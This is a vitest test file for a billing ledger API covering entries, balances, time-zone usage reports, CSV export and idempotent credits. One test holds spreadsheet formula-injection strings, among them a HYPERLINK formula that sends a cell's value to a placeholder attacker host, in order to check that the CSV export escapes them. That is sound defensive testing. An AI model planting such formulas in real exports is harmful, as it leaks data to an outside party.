import { parse } from 'csv-parse/sync';
import { sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { TRIAL_CREDIT } from '#contract/limits.ts';
import { Balance, LedgerEntryList, UsageReport } from '#contract/schemas/ledger.ts';
import { LedgerEntry } from '#contract/schemas/session.ts';
import type { DatabaseHandle } from '#db/client.ts';
import { rowsOf } from '#db/queries/rows.ts';
import { silentLogger } from '#functions/http/log.ts';
import { build as buildBalance } from '#functions/ledger/balance.ts';
import { build as buildCredit } from '#functions/ledger/credit.ts';
import { build as buildGet } from '#functions/ledger/get.ts';
import { build as buildList } from '#functions/ledger/list.ts';
import { build as buildUsage } from '#functions/ledger/usage.ts';
import { freshDatabase } from '#test/helpers/database.ts';
import { apiEvent } from '#test/helpers/events.ts';
import { insertAgent, insertSession } from '#test/helpers/fixtures.ts';
import { bodyOf, expectProblem } from '#test/helpers/responses.ts';
import { createTenant, type Tenant } from '#test/helpers/tenants.ts';

const READ = 'usage:read';
const BILLING = 'billing:write usage:read';
let keys = 0;
const freshKey = () => `credit-${++keys}-${Date.now()}`;

describe('the ledger: entries, balance, usage, credits', () => {
  let handle: DatabaseHandle;
  let app: {
    list: ReturnType<typeof buildList>;
    get: ReturnType<typeof buildGet>;
    balance: ReturnType<typeof buildBalance>;
    usage: ReturnType<typeof buildUsage>;
    credit: ReturnType<typeof buildCredit>;
  };
  let tenant: Tenant;
  let other: Tenant;
  let agentId: string;

  /** An entry booked at `at` (the trigger keeps the balance and the rollup as for any other). */
  const book = (t: Tenant, at: string, amount: number, reason: string, agent: string | null = null) =>
    handle.db.execute(sql`
      insert into ledger_entries (id, created_at, updated_at, workspace_id, amount, reason, agent_id)
      values (${`e${Math.random().toString(36).slice(2, 14)}${++keys}`}, ${at}, ${at}, ${t.workspaceId}, ${amount},
        ${reason}::ledger_reason, ${agent})`);

  beforeAll(async () => {
    handle = await freshDatabase();
    const deps = { database: handle, logger: silentLogger };
    app = {
      list: buildList(deps),
      get: buildGet(deps),
      balance: buildBalance(deps),
      usage: buildUsage(deps),
      credit: buildCredit(deps),
    };
    tenant = await createTenant(handle.db);
    other = await createTenant(handle.db);
    const agent = await insertAgent(handle.db, tenant, { n: 1 });
    agentId = agent.agentId;
    // A session with its usage (60 s of voice), and entries on both sides of local midnights.
    await insertSession(handle.db, tenant, agent, { n: 1, ledger: true });
    await book(tenant, '2026-03-01T00:10:00.000Z', -5, 'VOICE_USAGE', agentId);
    await book(tenant, '2026-03-01T18:29:59.999Z', -7, 'VOICE_USAGE', agentId);
    await book(tenant, '2026-03-01T18:30:00.000Z', -11, 'SMS_USAGE', agentId);
    await book(tenant, '2026-03-02T23:59:59.999Z', 300, 'PURCHASE_REFILL');
    await book(tenant, '2026-03-03T00:00:00.000Z', -13, 'SMS_USAGE');
    await book(other, '2026-03-01T12:00:00.000Z', -1000, 'VOICE_USAGE');
  });
  afterAll(() => handle.close());

  const list = (query = '', init: { caller?: Tenant; accept?: string } = {}) =>
    app.list(
      apiEvent({
        path: '/ledger',
        query,
        caller: init.caller ?? tenant,
        scopes: READ,
        headers: init.accept ? { accept: init.accept } : {},
      }),
    );
  const usage = (query: string, caller = tenant) =>
    app.usage(apiEvent({ path: '/usage', query, caller, scopes: READ }));
  const balance = (caller = tenant) => app.balance(apiEvent({ path: '/balance', caller, scopes: READ }));
  const credit = (body: unknown, init: { key?: string | null; scopes?: string; caller?: Tenant } = {}) =>
    app.credit(
      apiEvent({
        method: 'POST',
        path: '/ledger/credits',
        body,
        caller: init.caller ?? tenant,
        scopes: init.scopes ?? BILLING,
        headers: init.key === null ? {} : { 'idempotency-key': init.key ?? freshKey() },
      }),
    );
  const sumOfEntries = async (t: Tenant, from?: string, to?: string) => {
    const [row] = rowsOf<{ sum: string; n: number }>(
      await handle.db.execute(sql`
        select coalesce(sum(amount), 0)::text as sum, count(*)::int as n from ledger_entries
        where workspace_id = ${t.workspaceId}
          and (${from ?? null}::timestamptz is null or created_at >= ${from ?? null}::timestamptz)
          and (${to ?? null}::timestamptz is null or created_at < ${to ?? null}::timestamptz)`),
    );
    return { sum: Number(row?.sum), n: Number(row?.n) };
  };

  it('lists the entries newest first, filtered, and only the caller’s workspace’s', async () => {
    const all = bodyOf(LedgerEntryList, await list());
    expect(all.map((e) => e.workspaceId)).toEqual(all.map(() => tenant.workspaceId));
    expect(all).toHaveLength(7); // the trial credit, the session's usage and the five booked above
    const times = all.map((e) => `${e.createdAt} ${e.id}`);
    expect(times).toEqual([...times].sort().reverse());
    const sms = bodyOf(LedgerEntryList, await list('reason=SMS_USAGE'));
    expect(sms.map((e) => e.amount)).toEqual([-13, -11]);
    const window = bodyOf(
      LedgerEntryList,
      await list('createdAfter=2026-03-01T00:10:00.000Z&createdBefore=2026-03-03T00:00:00.000Z&limit=2'),
    );
    expect(window.map((e) => e.amount)).toEqual([300, -11]);
    const byAgent = bodyOf(LedgerEntryList, await list(`agentId=${agentId}`));
    expect(byAgent).toHaveLength(4);
    expectProblem(await list('reason=REFUND'), 400, ['reason.0']);
    expectProblem(await list('sessionId=NOT-AN-ID'), 400, ['sessionId.0']);
  });

  it('pages by cursor through every entry once', async () => {
    const seen: string[] = [];
    let query = 'limit=3&cursor=';
    for (let i = 0; i < 5 && query; i++) {
      const result = await list(query);
      seen.push(...bodyOf(LedgerEntryList, result).map((e) => e.id));
      const next = /<([^>]*)>; rel="next"/.exec(String(result.headers.link ?? ''));
      query = next ? new URL(next[1] as string).search.slice(1) : '';
    }
    const all = bodyOf(LedgerEntryList, await list());
    expect(seen).toEqual(all.map((e) => e.id));
  });

  it("answers one entry, and another workspace's exactly as an unknown one (404)", async () => {
    const [first] = bodyOf(LedgerEntryList, await list());
    const get = (entryId: string, caller = tenant) =>
      app.get(
        apiEvent({
          path: `/ledger/${entryId}`,
          resource: '/ledger/{entryId}',
          pathParameters: { entryId },
          caller,
          scopes: READ,
        }),
      );
    expect(bodyOf(LedgerEntry, await get(first?.id as string))).toEqual(first);
    const [theirs] = bodyOf(LedgerEntryList, await list('', { caller: other }));
    const foreign = await get(theirs?.id as string);
    const unknown = await get('zzzzzzzzzzzzzzzzzzzzzzzz');
    expect(foreign.statusCode).toBe(404);
    const { requestId: _a, ...foreignBody } = JSON.parse(foreign.body);
    const { requestId: _b, ...unknownBody } = JSON.parse(unknown.body);
    expect(foreignBody).toEqual(unknownBody);
    expect(foreignBody.detail).toBe('No ledger entry with this id in this workspace.');
  });

  it('answers the balance: the sum of the entries and the last one booked', async () => {
    const b = bodyOf(Balance, await balance());
    const { sum } = await sumOfEntries(tenant);
    expect(b).toEqual({
      workspaceId: tenant.workspaceId,
      balance: sum,
      lastEntryId: expect.any(String),
      lastEntryAt: '2026-03-03T00:00:00.000Z',
      lowBalanceThreshold: 0,
    });
    expect(sum).toBe(TRIAL_CREDIT - 120 - 5 - 7 - 11 + 300 - 13);
    expect(bodyOf(Balance, await balance(other)).balance).toBe(TRIAL_CREDIT - 1000);
  });

  it('reports usage by day in UTC and in a zone offset by half an hour, each summing to the entries', async () => {
    const utc = bodyOf(UsageReport, await usage('from=2026-03-01&to=2026-03-02'));
    expect(utc.groups).toEqual([
      { key: '2026-03-01', amount: -23, entries: 3, sessions: 0, voiceSeconds: 0 },
      { key: '2026-03-02', amount: 300, entries: 1, sessions: 0, voiceSeconds: 0 },
    ]);
    expect(utc.total).toEqual({ amount: 277, entries: 4, sessions: 0, voiceSeconds: 0 });
    // Kolkata is UTC+05:30: its 2026-03-02 starts at 2026-03-01T18:30Z; 03-03 ends at 03-03T18:30Z.
    const india = bodyOf(UsageReport, await usage('from=2026-03-01&to=2026-03-03&timezone=Asia/Kolkata'));
    expect(india.groups).toEqual([
      { key: '2026-03-01', amount: -12, entries: 2, sessions: 0, voiceSeconds: 0 },
      { key: '2026-03-02', amount: -11, entries: 1, sessions: 0, voiceSeconds: 0 },
      { key: '2026-03-03', amount: 287, entries: 2, sessions: 0, voiceSeconds: 0 },
    ]);
    const raw = await sumOfEntries(tenant, '2026-02-28T18:30:00.000Z', '2026-03-03T18:30:00.000Z');
    expect(india.total.amount).toBe(raw.sum);
    expect(india.total.entries).toBe(raw.n);
    // Asked again (its day starts then come from the container's cache) and spelt in another case:
    // the same days.
    for (const zone of ['Asia/Kolkata', 'asia/kolkata']) {
      const again = bodyOf(UsageReport, await usage(`from=2026-03-01&to=2026-03-03&timezone=${zone}`));
      expect(again.groups).toEqual(india.groups);
    }
  });

  /** The local calendar day of an instant, by the runtime's own time zone data (not the product's SQL). */
  const localDay = (zone: string) => {
    const format = new Intl.DateTimeFormat('en-CA', {
      timeZone: zone,
      year: 'numeric',
      month: '2-digit',
      day: '2-digit',
    });
    return (iso: string) => format.format(Date.parse(iso));
  };
  const dayAfter = (day: string, n = 1) =>
    new Date(Date.parse(`${day}T00:00:00.000Z`) + n * 86_400_000).toISOString().slice(0, 10);

  it.each([
    ['UTC', '2026-03-28'],
    ['Asia/Kolkata', '2026-03-28'], // +05:30
    ['Asia/Kathmandu', '2026-03-28'], // +05:45
    ['Australia/Eucla', '2026-03-28'], // +08:45
    ['America/St_Johns', '2026-03-07'], // -03:30, -02:30 from 03-08
    ['Europe/Paris', '2026-03-28'], // summer time from 03-29
    ['Europe/London', '2026-03-28'], // summer time from 03-29
    ['Europe/London', '2026-10-24'], // winter time from 10-25
    ['Australia/Lord_Howe', '2026-04-04'], // +11 to +10:30 on 04-05: a 30-minute shift
    ['Australia/Lord_Howe', '2026-10-03'], // +10:30 to +11 on 10-04
    ['Pacific/Chatham', '2026-04-04'], // +13:45 to +12:45 on 04-05
    ['America/Santiago', '2026-09-05'], // 09-06 starts at 01:00: its midnight is skipped
    ['Asia/Kolkata', '1880-03-01'], // a local mean time of +05:21:10: midnights inside quarter-hours
    ['America/Sao_Paulo', '1913-12-31'], // -03:06:28 until 1914-01-01, then -03:00
  ])(
    'adds every local day in %s from %s up to its entries, to the unit, by day, reason and agent',
    async (zone, from) => {
      // An entry every 7 minutes and some milliseconds over five days around the window's three: each
      // quarter-hour, and the minutes around each local midnight, hold entries.
      const to = dayAfter(from, 2);
      const dense = await createTenant(handle.db);
      const { agentId: denseAgent } = await insertAgent(handle.db, dense, { n: 1 });
      await handle.db.execute(sql`
      insert into ledger_entries (id, created_at, updated_at, workspace_id, amount, reason, agent_id)
      select left(md5(${dense.workspaceId} || i), 24), t, t, ${dense.workspaceId}, -(1 + i % 9),
        (case when i % 2 = 0 then 'SMS_USAGE' else 'VOICE_USAGE' end)::ledger_reason,
        case when i % 3 = 0 then ${denseAgent} end
      from generate_series(0, 5 * 24 * 60 / 7) i,
        lateral (select ${`${dayAfter(from, -1)}T00:03:00Z`}::timestamptz + i * interval '7 minutes'
          + (i % 4) * (i % 5) * interval '17 seconds' + (i % 7) * interval '1 millisecond' as t) x`);
      const entries = rowsOf<{ at: string; amount: number; agentId: string | null }>(
        await handle.db.execute(sql`
        select to_char(created_at at time zone 'UTC', 'YYYY-MM-DD"T"HH24:MI:SS.MS"Z"') as at, amount::int as amount,
          agent_id as "agentId"
        from ledger_entries where workspace_id = ${dense.workspaceId}`),
      );
      const dayOf = localDay(zone);
      type Totals<K> = { key: K; amount: number; entries: number };
      const add = <K>(groups: Map<K, Totals<K>>, key: K, amount: number) => {
        const totals = groups.get(key) ?? { key, amount: 0, entries: 0 };
        totals.amount += amount;
        totals.entries += 1;
        groups.set(key, totals);
      };
      const expected = new Map<string, Totals<string>>();
      const perAgent = new Map<string | null, Totals<string | null>>();
      for (const e of entries) {
        const key = dayOf(e.at);
        if (key < from || key > to) continue;
        add(expected, key, e.amount);
        add(perAgent, e.agentId, e.amount);
      }
      const days = [...expected.values()].sort((a, b) => a.key.localeCompare(b.key));
      expect(days.map((d) => d.key)).toEqual([from, dayAfter(from), to]);

      const query = `from=${from}&to=${to}&timezone=${zone}`;
      const byDay = bodyOf(UsageReport, await usage(query, dense));
      expect(byDay.groups.map(({ key, amount, entries }) => ({ key, amount, entries }))).toEqual(days);
      expect(byDay.total).toMatchObject({
        amount: days.reduce((s, d) => s + d.amount, 0),
        entries: days.reduce((s, d) => s + d.entries, 0),
      });
      for (const groupBy of ['reason', 'agent']) {
        const grouped = bodyOf(UsageReport, await usage(`${query}&groupBy=${groupBy}`, dense));
        expect(grouped.total).toEqual(byDay.total);
        expect(grouped.groups.reduce((s, g) => s + g.amount, 0)).toBe(byDay.total.amount);
      }
      // By agent, the whole UTC days come from another rollup than the window's ends: each agent's
      // totals are still its entries'.
      const byAgent = bodyOf(UsageReport, await usage(`${query}&groupBy=agent`, dense));
      expect(byAgent.groups.map(({ key, amount, entries }) => ({ key, amount, entries }))).toEqual([
        perAgent.get(denseAgent),
        perAgent.get(null),
      ]);
    },
  );

  it('groups by agent and by reason, counting sessions and seconds of voice', async () => {
    const today = new Date().toISOString().slice(0, 10);
    const byReason = bodyOf(UsageReport, await usage(`from=2026-01-01&to=${today}&groupBy=reason`));
    expect(byReason.groups).toEqual([
      { key: 'INITIAL_BALANCE', amount: TRIAL_CREDIT, entries: 1, sessions: 0, voiceSeconds: 0 },
      { key: 'PURCHASE_REFILL', amount: 300, entries: 1, sessions: 0, voiceSeconds: 0 },
      { key: 'SMS_USAGE', amount: -24, entries: 2, sessions: 0, voiceSeconds: 0 },
      { key: 'VOICE_USAGE', amount: -132, entries: 3, sessions: 1, voiceSeconds: 60 },
    ]);
    expect(byReason.total.amount).toBe((await sumOfEntries(tenant)).sum);
    const byAgent = bodyOf(UsageReport, await usage(`from=2026-01-01&to=${today}&groupBy=agent`));
    expect(byAgent.groups.map((g) => [g.key, g.amount])).toEqual([
      [agentId, -143],
      [null, TRIAL_CREDIT + 287],
    ]);
  });

  it('refuses a bad report request with a problem naming the parameter', async () => {
    expectProblem(await usage('from=2026-03-01&to=2026-03-02&timezone=Mars/Olympus'), 400, ['timezone']);
    expectProblem(await usage('from=2026-03-01&to=2026-03-02&timezone=%2B05'), 400, ['timezone']);
    expectProblem(await usage('to=2026-03-02'), 400, ['from']);
    expectProblem(await usage('from=2026-03-05&to=2026-03-02'), 400, ['to']);
    expectProblem(await usage('from=2026-02-30&to=2026-03-02'), 400, ['from']);
    expectProblem(await usage('from=2025-01-01&to=2026-03-02'), 400, ['to']);
    expectProblem(await usage('from=2026-03-01&to=2026-03-02&groupBy=week'), 400, ['groupBy']);
    // Shaped like dates, but none: refused by name, never a 500 (month 13, day 32, month 0).
    for (const day of ['2026-13-01', '2026-01-32', '2026-00-10', '2026-1-01', 'abc', '+2026-11-01'])
      expectProblem(await usage(`from=${day}&to=2026-03-02`), 400, ['from']);
    // Days whose window would leave four-digit years (the day after 9999-12-31 is +010000-01-01).
    expectProblem(await usage('from=9999-12-31&to=9999-12-31'), 400, ['from', 'to']);
    expectProblem(await usage('from=0001-01-01&to=0001-01-02'), 400, ['from', 'to']);
    // Abbreviations are not zone names: IST is India's, Ireland's or Israel's (and Postgres's is Israel).
    for (const zone of ['IST', 'ist', 'PST', 'BST'])
      expectProblem(await usage(`from=2026-03-01&to=2026-03-02&timezone=${zone}`), 400, ['timezone']);
  });

  it('counts days in the zone as validated, where Postgres would read the name otherwise (MET)', async () => {
    // MET is an IANA name (Central European, with summer time); Postgres reads `MET` as an
    // abbreviation, +01:00 all year. 22:30Z on 1 July is 00:30 on 2 July in Brussels' summer.
    const t = await createTenant(handle.db);
    await book(t, '2026-07-01T22:30:00.000Z', -17, 'SMS_USAGE');
    await book(t, '2026-07-01T21:30:00.000Z', -19, 'SMS_USAGE');
    const met = bodyOf(UsageReport, await usage('from=2026-07-01&to=2026-07-02&timezone=MET', t));
    expect(met.groups.map((g) => [g.key, g.amount])).toEqual([
      [localDay('MET')('2026-07-01T21:30:00.000Z'), -19],
      [localDay('MET')('2026-07-01T22:30:00.000Z'), -17],
    ]);
    expect(met.groups.map((g) => g.key)).toEqual(['2026-07-01', '2026-07-02']);
  });

  it('exports a window as RFC 4180 CSV that parses and sums to the usage report', async () => {
    await book(tenant, '2026-03-02T10:00:00.000Z', -17, 'SMS_USAGE');
    const result = await list(
      'createdAfter=2026-02-28T23:59:59.999Z&createdBefore=2026-03-03T00:00:00.000Z&limit=250',
      { accept: 'text/csv' },
    );
    expect(result.statusCode).toBe(200);
    expect(result.headers['content-type']).toBe('text/csv; charset=utf-8; header=present');
    expect(result.body.endsWith('\r\n')).toBe(true);
    const rows = parse(result.body, { columns: true }) as Record<string, string>[];
    expect(Object.keys(rows[0] ?? {})).toEqual(Object.keys(LedgerEntry.entries));
    const report = bodyOf(UsageReport, await usage('from=2026-03-01&to=2026-03-02'));
    expect(rows).toHaveLength(report.total.entries);
    expect(rows.reduce((s, r) => s + Number(r.amount), 0)).toBe(report.total.amount);
  });

  it('quotes fields as RFC 4180 says', async () => {
    const detail = 'Invoice "7", paid\nin full';
    await credit({ amount: 1, reason: 'PURCHASE_REFILL', reasonDetails: detail });
    const rows = parse((await list('limit=1', { accept: 'text/csv' })).body, { columns: true }) as Record<
      string,
      string
    >[];
    expect(rows[0]?.reasonDetails).toBe(detail);
    expect(rows[0]?.redemptionCodeId).toBe('');
  });

  it('writes free text that a spreadsheet would run as a formula behind a quote', async () => {
    const formulas = ['=HYPERLINK("http://evil.example/?x="&A1,"x")', '+1+2', '-1+2', '@SUM(A1)', '\t=1+1'];
    for (const reasonDetails of formulas)
      await credit({ amount: 1, reason: 'PURCHASE_REFILL', reasonDetails });
    const csv = parse((await list(`limit=${formulas.length}`, { accept: 'text/csv' })).body, {
      columns: true,
    }) as Record<string, string>[];
    expect(csv.map((r) => r.reasonDetails).reverse()).toEqual(formulas.map((f) => `'${f}`));
    // Numbers stay numbers (a usage entry's amount is negative); the JSON keeps the text as sent.
    expect(csv.every((r) => /^-?\d+$/.test(r.amount ?? ''))).toBe(true);
    const json = bodyOf(LedgerEntryList, await list(`limit=${formulas.length}`));
    expect(json.map((e) => e.reasonDetails).reverse()).toEqual(formulas);
  });

  it('answers CSV only where the client accepts it and weighs it no lower than JSON', async () => {
    const isCsv = async (accept: string) =>
      String((await list('limit=1', { accept })).headers['content-type']).startsWith('text/csv');
    expect(await isCsv('text/csv')).toBe(true);
    expect(await isCsv('application/json;q=0.9, TEXT/CSV')).toBe(true);
    expect(await isCsv('text/csv;q=0, application/json')).toBe(false);
    expect(await isCsv('text/csv; q=0')).toBe(false);
    expect(await isCsv('text/csv;q=0.5, application/json')).toBe(false);
    expect(await isCsv('text/csvx, application/json')).toBe(false);
  });

  it('books a credit once per Idempotency-Key, stored on the entry', async () => {
    const before = bodyOf(Balance, await balance()).balance;
    const key = freshKey();
    const body = { amount: 250, reason: 'PURCHASE_REFILL', reasonDetails: 'Invoice 42' };
    const first = await credit(body, { key });
    expect(first.statusCode).toBe(201);
    const entry = bodyOf(LedgerEntry, first);
    expect(entry).toMatchObject({
      amount: 250,
      reason: 'PURCHASE_REFILL',
      reasonDetails: 'Invoice 42',
      idempotencyKey: key,
      createdBy: tenant.principalId,
      workspaceId: tenant.workspaceId,
    });
    const again = await credit(body, { key });
    expect(again.headers['idempotent-replayed']).toBe('true');
    expect(bodyOf(LedgerEntry, again)).toEqual(entry);
    expectProblem(await credit({ ...body, amount: 251 }, { key }), 422);
    const after = bodyOf(Balance, await balance());
    expect(after).toMatchObject({ balance: before + 250, lastEntryId: entry.id });
    // Past the key's replay window the unique key still books nothing twice.
    await handle.db.execute(sql`delete from idempotency_keys where key = ${key}`);
    const late = await credit(body, { key });
    expect(late.statusCode).toBe(200);
    expect(bodyOf(LedgerEntry, late)).toEqual(entry);
    expect(bodyOf(Balance, await balance()).balance).toBe(before + 250);
  });

  it('refuses a credit without its key, a bad body, or without billing:write', async () => {
    const body = { amount: 5, reason: 'PURCHASE_REFILL' };
    const keyless = await credit(body, { key: null });
    expectProblem(keyless, 400, ['Idempotency-Key']);
    expect(JSON.parse(keyless.body).detail).toBe(
      'The Idempotency-Key header is required: a retry must not credit twice.',
    );
    expectProblem(await credit({ amount: 0, reason: 'PURCHASE_REFILL' }), 400, ['amount']);
    expectProblem(await credit({ amount: 5, reason: 'VOICE_USAGE' }), 400, ['reason']);
    expectProblem(await credit({ amount: 5, reason: 'REDEMPTION_CODE' }), 400, ['redemptionCodeId']);
    expectProblem(await credit({ ...body, tip: 1 }), 400, ['tip']);
    expectProblem(await credit(body, { scopes: READ }), 403);
    const code = await credit({
      amount: 5,
      reason: 'REDEMPTION_CODE',
      redemptionCodeId: 'ckcode0000000000000000aa',
    });
    expect(bodyOf(LedgerEntry, code).redemptionCodeId).toBe('ckcode0000000000000000aa');
  });

  it('needs usage:read to read', async () => {
    expectProblem(
      await app.balance(apiEvent({ path: '/balance', caller: tenant, scopes: 'sessions:read' })),
      403,
    );
  });
});
